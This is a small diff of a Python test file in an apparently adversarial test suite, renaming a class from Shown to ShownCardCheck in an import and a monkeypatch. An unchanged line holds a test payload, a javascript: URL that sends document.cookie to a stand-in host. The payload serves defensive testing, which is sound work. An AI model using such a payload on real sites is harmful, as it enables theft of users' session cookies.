@@ -9,7 +9,7 @@ from _pytest.monkeypatch import MonkeyPatch
 
 from gridc.diagnostics.errors import GridcError
 from gridc.reports.exchange import model_card, shown_card
-from gridc.reports.exchange.shown_card import Shown
+from gridc.reports.exchange.shown_card import ShownCardCheck
 from gridc.reports.files import documents
 from gridc.schema.card import CardDeck
 from tests.adversary.attack import Patch, attack, instead
@@ -19,7 +19,7 @@ RUNS = "javascript:fetch('//e.example/'+document.cookie)"
 ANY_LINK = instead((model_card, "LINK", re.compile(r"\S+")))
 
 
-NO_READER = instead((model_card, "shown", lambda *_: Shown((), ())))
+NO_READER = instead((model_card, "shown", lambda *_: ShownCardCheck((), ())))
 NO_INDEX = instead((model_card, "_claimed_elsewhere", lambda *_: ([], [])))
 
 
